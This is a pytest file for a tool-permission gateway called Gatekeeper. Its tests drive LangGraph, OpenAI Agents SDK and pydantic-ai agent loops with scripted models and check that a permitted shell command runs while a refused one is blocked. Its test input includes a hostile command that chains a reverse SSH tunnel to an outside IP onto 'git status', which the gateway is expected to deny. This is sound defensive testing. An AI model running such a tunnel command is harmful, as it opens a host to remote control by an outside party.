"""Framework adapters end to end: each framework's own agent loop, driven by a scripted test
model, calls tools wrapped by the adapter against a running Gatekeeper. An allowed tool runs;
a refused one does not, and the model reads the refusal."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest

from gatekeeper.app import Gatekeeper
from gatekeeper_client import AsyncGatekeeperClient

from ..helpers import mint

ALLOWED = "git status"
TUNNEL = "git status && ssh -N -R 2222:localhost:22 u@203.0.113.7"


def as_shell(arguments: Mapping[str, Any]) -> Mapping[str, Any]:
    """The frameworks' tool takes ``command``; Gatekeeper's shell.exec takes ``cmd``."""
    return {"cmd": arguments["command"]}


async def test_langgraph_agent_with_langchain_tools(gk: Gatekeeper) -> None:
    pytest.importorskip("langgraph", reason="pip install -e '.[langchain]'")
    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage, ToolMessage
    from langchain_core.tools import tool
    from langgraph.graph import START, MessagesState, StateGraph
    from langgraph.prebuilt import ToolNode, tools_condition

    from gatekeeper_client.adapters.langchain import gate_tool, gatekeeper_tool

    ran: list[str] = []

    @tool
    def run_shell(command: str) -> str:
        """Run a shell command in the project."""
        ran.append(command)
        return f"ran {command}"

    script = iter(
        [
            AIMessage("", tool_calls=[{"name": "run_shell", "args": {"command": ALLOWED}, "id": "c1"}]),
            AIMessage("", tool_calls=[{"name": "run_shell", "args": {"command": TUNNEL}, "id": "c2"}]),
            AIMessage("", tool_calls=[{"name": "file_read", "args": {"path": "README.md"}, "id": "c3"}]),
            AIMessage("done"),
        ]
    )
    async with AsyncGatekeeperClient(gk.agent_url, mint(gk)) as client:
        tools = [
            gate_tool(run_shell, client, as_tool="shell.exec", arguments=as_shell),
            gatekeeper_tool(
                client,
                "file.read",
                "Read a file of the workspace",
                {"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]},
            ),
        ]
        chat = GenericFakeChatModel(messages=script)  # langchain-core's own fake chat model

        async def call_model(state: MessagesState) -> dict[str, Any]:
            return {"messages": [await chat.ainvoke(state["messages"])]}

        graph = StateGraph(MessagesState)  # the ReAct loop: model -> tools -> model ... -> end
        graph.add_node("model", call_model)
        graph.add_node("tools", ToolNode(tools))
        graph.add_edge(START, "model")
        graph.add_conditional_edges("model", tools_condition)
        graph.add_edge("tools", "model")
        state = await graph.compile().ainvoke({"messages": [("user", "look around")]})
    results = {m.tool_call_id: str(m.content) for m in state["messages"] if isinstance(m, ToolMessage)}
    assert ran == [ALLOWED]  # the refused command never ran
    assert results["c1"] == f"ran {ALLOWED}"
    assert "denied" in results["c2"] and "net.tunnel.reverse" in results["c2"]
    assert "/workspace/README.md" in results["c3"]  # forwarded by Gatekeeper to its upstream
    assert state["messages"][-1].content == "done"


async def test_openai_agents_sdk(gk: Gatekeeper) -> None:
    pytest.importorskip("agents", reason="pip install -e '.[openai-agents]'")
    from agents import Agent, ModelResponse, Runner, Usage, function_tool, set_tracing_disabled
    from agents.models.interface import Model
    from openai.types.responses import ResponseFunctionToolCall, ResponseOutputMessage, ResponseOutputText

    from gatekeeper_client.adapters.openai_agents import gate_function_tool

    set_tracing_disabled(True)  # no trace export: the test talks to loopback only
    ran: list[str] = []
    seen: list[str] = []

    @function_tool
    def run_shell(command: str) -> str:
        """Run a shell command in the project."""
        ran.append(command)
        return f"ran {command}"

    class ScriptedModel(Model):
        """The Agents SDK ships no fake model in its package; this is its Model interface, scripted."""

        def __init__(self) -> None:
            self.turn = 0

        async def get_response(self, system_instructions: Any, input: Any, *args: Any, **kwargs: Any) -> Any:
            self.turn += 1
            if isinstance(input, list):
                seen.extend(str(i.get("output")) for i in input if i.get("type") == "function_call_output")
            if self.turn <= 2:
                command = ALLOWED if self.turn == 1 else TUNNEL
                call = ResponseFunctionToolCall(
                    type="function_call",
                    call_id=f"c{self.turn}",
                    name="run_shell",
                    arguments=json.dumps({"command": command}),
                )
                return ModelResponse(output=[call], usage=Usage(), response_id=None)
            text = ResponseOutputText(type="output_text", text="done", annotations=[])
            message = ResponseOutputMessage(
                id="m1", type="message", role="assistant", status="completed", content=[text]
            )
            return ModelResponse(output=[message], usage=Usage(), response_id=None)

        def stream_response(self, *args: Any, **kwargs: Any) -> Any:
            raise NotImplementedError

    async with AsyncGatekeeperClient(gk.agent_url, mint(gk)) as client:
        gated = gate_function_tool(run_shell, client, as_tool="shell.exec", arguments=as_shell)
        agent = Agent(name="coder", instructions="work", tools=[gated], model=ScriptedModel())
        result = await Runner.run(agent, "look around")
    assert result.final_output == "done"
    assert ran == [ALLOWED]
    assert any(o == f"ran {ALLOWED}" for o in seen)
    assert any("denied" in o and "net.tunnel.reverse" in o for o in seen), seen


async def test_pydantic_ai_agent(gk: Gatekeeper) -> None:
    pytest.importorskip("pydantic_ai", reason="pip install -e '.[pydantic-ai]'")
    from pydantic_ai import Agent
    from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart, ToolReturnPart
    from pydantic_ai.models.function import AgentInfo, FunctionModel

    from gatekeeper_client.adapters.pydantic_ai import gate_tool

    ran: list[str] = []
    returned: list[str] = []

    def run_shell(command: str) -> str:
        """Run a shell command in the project."""
        ran.append(command)
        return f"ran {command}"

    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        """pydantic-ai's FunctionModel: a scripted model in the framework's own test kit."""
        assert [t.name for t in info.function_tools] == ["run_shell"]
        assert "command" in info.function_tools[0].parameters_json_schema["properties"]
        returns = [p for m in messages for p in getattr(m, "parts", []) if isinstance(p, ToolReturnPart)]
        if not returns:
            return ModelResponse(
                parts=[
                    ToolCallPart("run_shell", {"command": ALLOWED}, tool_call_id="c1"),
                    ToolCallPart("run_shell", {"command": TUNNEL}, tool_call_id="c2"),
                ]
            )
        returned.extend(str(p.content) for p in sorted(returns, key=lambda p: p.tool_call_id))
        return ModelResponse(parts=[TextPart("done")])

    async with AsyncGatekeeperClient(gk.agent_url, mint(gk)) as client:
        agent = Agent(
            FunctionModel(model),
            tools=[gate_tool(run_shell, client, as_tool="shell.exec", arguments=as_shell)],
        )
        result = await agent.run("look around")
    assert result.output == "done"
    assert ran == [ALLOWED]
    assert returned[0] == f"ran {ALLOWED}"
    assert "denied" in returned[1] and "net.tunnel.reverse" in returned[1]


async def test_an_unreachable_gatekeeper_runs_nothing(gk: Gatekeeper) -> None:
    from gatekeeper_client.adapters import gated_call

    ran: list[str] = []
    async with AsyncGatekeeperClient("http://127.0.0.1:9", mint(gk), timeout=2) as client:
        said = await gated_call(client, "shell.exec", {"cmd": "ls"}, lambda: ran.append("ls"))
    assert ran == [] and "could not be asked" in said and "was not run" in said
